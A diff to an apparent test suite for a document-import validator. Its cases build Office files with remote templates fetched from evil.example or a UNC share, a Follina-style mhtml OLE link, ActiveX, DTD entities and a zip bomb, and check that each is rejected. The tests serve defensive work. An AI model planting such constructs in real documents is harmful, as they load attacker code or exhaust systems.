@@ -187,7 +187,7 @@ def _docx_rels(*relations) -> bytes:
     return office.docx(document_rels=office.rels(*relations))
 
 
-def _settings_rels(*relations) -> bytes:
+def settings_rels(*relations) -> bytes:
     return _docx_with(Member("word/settings.xml", b'<w:settings xmlns:w="%s"/>' % office.W.encode()),
                       Member("word/_rels/settings.xml.rels", office.rels(*relations)))
 
@@ -257,9 +257,11 @@ OFFICE_CASES = [
     Case("docx-activex", "通知.docx",
          lambda: _docx_with(Member("word/activeX/activeX1.xml", b"<ax:ocx/>")), "ActiveX"),
     Case("docx-remote-template", "通知.docx",
-         lambda: _settings_rels(("rId1", "attachedTemplate", "http://evil.example/t.dotm", "External")), "模板"),
+         lambda: settings_rels(("rId1", "attachedTemplate", "http://evil.example/t.dotm", "External")), "模板"),
     Case("docx-remote-template-unc", "通知.docx",
-         lambda: _settings_rels(("rId1", "attachedTemplate", "\\\\evil\\share\\t.dotm", "External")), "模板"),
+         lambda: settings_rels(("rId1", "attachedTemplate", "\\\\evil\\share\\t.dotm", "External")), "模板"),
+    Case("docx-remote-template-file-url-to-host", "通知.docx",
+         lambda: settings_rels(("rId1", "attachedTemplate", "file://evil.example/share/t.dotm", "External")), "模板"),
     Case("docx-follina-external-ole", "通知.docx",
          lambda: _docx_rels(("rId9", "oleObject", "mhtml:http://evil.example/x.html!x-usc:http://evil", "External")),
          "OLE"),
@@ -352,6 +354,7 @@ IMPORTS = [
     ImportCase("xlsx-row-at-1048576", "roster", "名单.xlsx", tables.far_row, "行数过多"),
     ImportCase("xlsx-20000-cells-in-a-row", "roster", "名单.xlsx", tables.wide_row, "单元格过多"),
     ImportCase("xlsx-doctype-entities", "roster", "名单.xlsx", tables.doctype_sheet, "DTD"),
+    ImportCase("xlsx-utf16-worksheet", "roster", "名单.xlsx", tables.utf16_sheet, "UTF-8"),
     ImportCase("xlsx-zip-bomb", "roster", "名单.xlsx",
                lambda: tables.roster_xlsx("", extra=[_bomb_member("xl/sharedStrings.xml", _fifty_mb_bomb(), 50 << 20)]),
                "压缩比异常"),
